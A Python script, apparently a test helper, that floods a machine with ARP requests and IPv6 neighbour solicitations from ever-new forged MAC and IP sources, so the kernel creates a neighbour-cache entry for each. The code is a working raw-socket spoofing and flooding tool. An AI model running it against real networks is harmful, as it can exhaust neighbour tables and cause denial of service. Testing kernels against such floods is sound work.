"""Ask for a machine's addresses in the names of ever more neighbours, by ARP and by NDP.

Usage: neighbour_flood NIC BURST RATE MAC IPV4 IPV6: as many of each at once, then a line, then so
many of each in a second until standard input ends. The kernel makes an entry for each who asks
(arp_process in net/ipv4/arp.c, ndisc_recv_ns in net/ipv6/ndisc.c).
"""

import select
import socket
import struct
import sys
from ipaddress import IPv4Address, IPv6Address

ETH_P_ARP, ETH_P_IPV6, ICMPV6 = 0x0806, 0x86DD, 58
SOURCES4, SOURCES6 = IPv4Address("10.50.0.0"), IPv6Address("2001:db8:50::")


def ethernet(mac: bytes, number: int, kind: int) -> bytes:
    return mac + source_mac(number) + struct.pack("!H", kind)


def source_mac(number: int) -> bytes:
    return b"\x02\x50" + number.to_bytes(4)


def arp_request(mac: bytes, target: IPv4Address, number: int) -> bytes:
    """A request (RFC 826) by neighbour `number`."""
    head = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
    sender = source_mac(number) + (SOURCES4 + number).packed
    return ethernet(mac, number, ETH_P_ARP) + head + sender + bytes(6) + target.packed


def solicitation(mac: bytes, target: IPv6Address, number: int) -> bytes:
    """A neighbour solicitation (RFC 4861, 4.3) with the source's link-layer address."""
    body = bytes(4) + target.packed + b"\x01\x01" + source_mac(number)
    ends = (SOURCES6 + number).packed + target.packed
    text = b"\x87\x00\x00\x00" + body
    total = sum(struct.unpack(f"!{(len(ends) + len(text)) // 2}H", ends + text))
    total += len(text) + ICMPV6
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
    head = struct.pack("!IHBB", 6 << 28, len(text), ICMPV6, 255) + ends
    message = b"\x87\x00" + struct.pack("!H", checksum) + body
    return ethernet(mac, number, ETH_P_IPV6) + head + message


def main(nic: str, burst: str, rate: str, *ends: str) -> None:
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((nic, 0))
    mac, ipv4, ipv6 = ends
    host, number = bytes.fromhex(mac.replace(":", "")), 0
    waiting = 0.0
    while not select.select([sys.stdin], [], [], waiting)[0]:
        number += 1
        link.send(arp_request(host, IPv4Address(ipv4), number))
        link.send(solicitation(host, IPv6Address(ipv6), number))
        if number == int(burst):
            print("asked", flush=True)
            waiting = 1 / float(rate)


main(*sys.argv[1:])
